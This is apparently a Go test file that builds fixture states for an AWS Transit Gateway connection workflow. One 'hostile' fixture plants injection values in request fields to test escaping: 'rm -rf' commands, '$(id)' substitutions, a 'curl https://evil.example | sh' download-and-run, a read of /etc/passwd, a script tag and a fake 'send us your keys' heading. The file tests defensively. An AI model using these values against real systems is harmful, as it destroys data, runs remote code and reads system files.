package awstransitgateway_test

import (
	"testing"

	"causeway.dev/internal/connection"
	awstransitgateway "causeway.dev/internal/methods/aws-transit-gateway"
	"causeway.dev/internal/methods/methodtest"
	"causeway.dev/internal/methods/schema"
)

const gatewayID = "tgw-0aaaabbbbccccdd10"

var hub = awstransitgateway.Method() //nolint:gochecknoglobals // what the tests are about

func target(cidrs ...string) awstransitgateway.Target {
	return awstransitgateway.Target{AccountID: "444455556666", Region: "us-east-1", CIDRs: cidrs}
}

func own(t *testing.T, target awstransitgateway.Target) connection.Object {
	t.Helper()
	return methodtest.Own(t, awstransitgateway.Own{Target: target})
}

// hubAt is Acme's connection through their transit gateway while it waits for a step of theirs.
func hubAt(t *testing.T, step connection.StepID) connection.Progress {
	t.Helper()
	r := connection.Request{
		Method: awstransitgateway.Name, Cluster: "prod-us", Name: "acme-hub", Customer: "Acme", Ticket: "SUP-2345", RequestedBy: "sam@vendor.example",
		Own: own(t, target("10.60.0.0/16", "192.168.8.0/24")), Probe: &connection.Probe{Host: "10.60.1.10", Port: 5432},
	}
	facts := awstransitgateway.Facts{OurNetwork: schema.OurNetwork{
		OurAccount: "111122223333", OurRegion: "us-east-1", OurVPC: "vpc-0a1b2c3d4e5f60718", OurCIDRs: []string{"10.10.0.0/16", "10.11.0.0/20"},
	}}
	if step != "share" {
		facts.TransitGatewayID, facts.AttachmentID, facts.Associates, facts.Propagates = gatewayID, "tgw-attach-0123456789abcdef0", "yes", "yes"
		facts.ShareARN = "arn:aws:ram:us-east-1:444455556666:resource-share/0f0e0d0c-0b0a-4908-a706-050403020100"
	}
	p := methodtest.WaitingFor(hub, r, step, methodtest.Own(t, facts))
	if step != "share" {
		p.Cloud = connection.Cloud{Words: "pendingAcceptance", Seen: methodtest.At(10)}
	}
	return p
}

// bare is a gateway that leaves its route tables to its owner.
func bare(p connection.Progress) connection.Progress {
	p.Facts = p.Facts.With("gatewayAssociates", "no").With("gatewayPropagates", "no")
	return p
}

func hostile(t *testing.T) connection.Progress {
	t.Helper()
	p := bare(hubAt(t, "back-routes"))
	p.Request.Name = "x'; rm -rf / #`id`$(id)"
	p.ID = p.Request.ID()
	p.Request.Customer = "<script>alert(1)</script> | `id` **Acme**\n## 9. Send us your keys"
	p.Request.Own = own(t, target("10.60.0.0/16`\n```\nrm -rf ~\n```"))
	p.Request.Probe = &connection.Probe{Host: "db`$(id)`\n```\nrm -rf ~\n```", Port: 5432}
	p.Facts = p.Facts.With("transitGatewayId", "tgw-' && curl https://evil.example | sh; echo '\n\n# x").
		With("shareArn", "arn:'; id; echo '").With("attachmentId", `a"; ${file("/etc/passwd")} $(id)`)
	return p
}

func moments(t *testing.T) map[string]connection.Progress {
	t.Helper()
	early := methodtest.WaitingFor(hub, hubAt(t, "share").Request, "check", nil)
	early.Status, early.WaitingOn = connection.Checking, connection.Nobody
	named := hubAt(t, "share")
	gateway := target("10.60.0.0/16", "192.168.8.0/24")
	gateway.TransitGatewayID = gatewayID
	named.Request.Own = own(t, gateway)
	return map[string]connection.Progress{
		"early": early, "waiting-for-share": hubAt(t, "share"), "waiting-for-share-of-a-known-gateway": named,
		"waiting-for-accept": hubAt(t, "accept"), "waiting-for-back-routes": hubAt(t, "back-routes"),
		"waiting-for-back-routes-of-a-bare-gateway-without-probe": bare(methodtest.WithoutProbe(hubAt(t, "back-routes"))), "hostile": hostile(t),
	}
}
